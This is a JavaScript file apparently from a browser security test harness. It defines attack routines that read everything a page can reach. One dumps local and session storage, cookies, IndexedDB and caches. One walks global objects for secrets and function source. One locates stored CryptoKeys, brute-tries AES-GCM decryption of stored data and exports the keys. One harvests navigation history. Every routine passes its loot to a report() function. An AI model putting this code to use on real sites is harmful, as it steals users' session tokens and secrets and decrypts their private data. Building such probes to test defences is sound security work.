// The attacks that look around once: what is stored, what can be reached, what the browser remembers.

const reads = {
  async "T1 storage dump"(attack) {
    report(attack, { ...localStorage });
    report(attack, { ...sessionStorage });
    report(attack, document.cookie.split("; "));
    // A value that was split over several.
    report(attack, document.cookie.replaceAll(/(?:^|; )[^=]+=/g, ""));
    if (globalThis.cookieStore) report(attack, await cookieStore.getAll());
    report(attack, [window.name, history.state, location.href]);
    for (const [, records] of await databases()) report(attack, records);
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const request of await cache.keys()) report(attack, await cache.match(request));
    }
  },

  async "T2 object walk"(attack) {
    const seen = new RealSet();
    const todo = [globalThis];
    const found = [];
    for (let nodes = 0; todo.length && nodes < 100_000; nodes++) {
      const value = todo.pop();
      if (typeof value === "string") {
        if (value.length > 16) found.push(value);
        continue;
      }
      if (Object(value) !== value || seen.has(value) || value === document) continue;
      seen.add(value);
      if (typeof value === "function" && !/\[native code\]/.test(Function.prototype.toString.call(value))) {
        found.push(Function.prototype.toString.call(value).slice(0, 20_000));
      }
      if (value instanceof Map || value instanceof Set) for (const one of value.entries?.() ?? []) todo.push(...one);
      if (isView(value) && value.length < 100_000) report(attack, value);
      try {
        const proto = getPrototypeOf(value);
        if (proto) todo.push(proto);
        for (const name of ownKeys(value)) {
          const descriptor = getOwnPropertyDescriptor(value, name);
          if (!descriptor) continue;
          if ("value" in descriptor) todo.push(descriptor.value);
          else if (value !== globalThis && !Object.hasOwn(globalThis, proto?.constructor?.name ?? ""))
            todo.push(value[name]);
          todo.push(descriptor.get, descriptor.set);
        }
      } catch {
        // A getter that throws, or an object of another origin.
      }
    }
    report(attack, found.join("\n"));
  },

  async "T4 IndexedDB key oracle"(attack) {
    const keys = [];
    const boxes = [];
    const collect = (value, name) => {
      if (value instanceof RealKey) {
        keys.push(value);
        report(attack, value);
      } else if (value instanceof ArrayBuffer || isView(value)) boxes.push([value, name]);
      else if (typeof value === "string")
        boxes.push([fromBase64(value), name], ...pieces(value).map((one) => [one, name]));
      else if (value && typeof value === "object") for (const one of Object.values(value)) collect(one, name);
    };
    for (const [name, records] of await databases())
      for (const [key, value] of records) collect(value, `${name} ${key}`);
    for (const area of [localStorage, sessionStorage])
      for (const [key, value] of Object.entries(area)) collect(value, key);
    for (const pair of document.cookie.split("; ")) collect(pair.slice(pair.indexOf("=") + 1), pair.split("=")[0]);
    for (const key of keys) {
      for (const [box, name] of boxes) for (const clear of await decrypt(key, box, boxes, name)) report(attack, clear);
      const out = await crypto.subtle.exportKey("jwk", key).catch(() => undefined);
      if (out) report(attack, JSON.stringify(out));
    }
  },

  async "T24 browser's memory of the visit"(attack) {
    report(
      attack,
      performance.getEntries().map(({ name }) => name),
    );
    report(attack, [document.referrer, location.href, history.state]);
    if (globalThis.navigation)
      report(
        attack,
        navigation.entries().map(({ url }) => url),
      );
  },
};

/** Every record of every database: `[database, [[key, value]]]`. */
async function databases() {
  const all = [];
  for (const { name } of await indexedDB.databases()) {
    const database = await settled(indexedDB.open(name));
    const records = [];
    for (const store of database.objectStoreNames) {
      const held = database.transaction(store).objectStore(store);
      const [keys, values] = [await settled(held.getAllKeys()), await settled(held.getAll())];
      keys.forEach((key, at) => records.push([String(key), values[at]]));
    }
    database.close();
    all.push([name, records]);
  }
  return all;
}

function settled(request) {
  return new Promise((resolve, reject) => {
    request.onsuccess = () => resolve(request.result);
    request.onerror = () => reject(request.error);
    request.onblocked = () => reject(new Error("blocked"));
  });
}

function fromBase64(text) {
  try {
    return Uint8Array.from(atob(text.replaceAll("-", "+").replaceAll("_", "/")), (char) => char.charCodeAt(0));
  } catch {
    return new Uint8Array();
  }
}

const pieces = (text) => (text.match(/[A-Za-z0-9+/_-]{16,}={0,2}/g) ?? []).map(fromBase64);

/** AES-GCM with the usual layouts: the initialization vector before the ciphertext, or in a field of its own. */
async function decrypt(key, box, boxes, name) {
  const bytes = new Uint8Array(box.buffer ?? box, box.byteOffset ?? 0, box.byteLength);
  const vectors = boxes.filter(([one]) => one.byteLength === 12).map(([one]) => [one, bytes]);
  for (const at of [0, 1, 2, 4, 5, 8]) vectors.push([bytes.slice(at, at + 12), bytes.slice(at + 12)]);
  const clear = [];
  for (const [iv, data] of vectors) {
    for (const additionalData of [undefined, ...additional(name, bytes)]) {
      const algorithm = { name: "AES-GCM", iv, ...(additionalData && { additionalData }) };
      await crypto.subtle.decrypt(algorithm, key, data).then(
        (plain) => clear.push(plain),
        () => {},
      );
    }
  }
  return clear;
}

/** What a client binds a record to is no secret: it is written in its source. */
function additional() {
  return [];
}
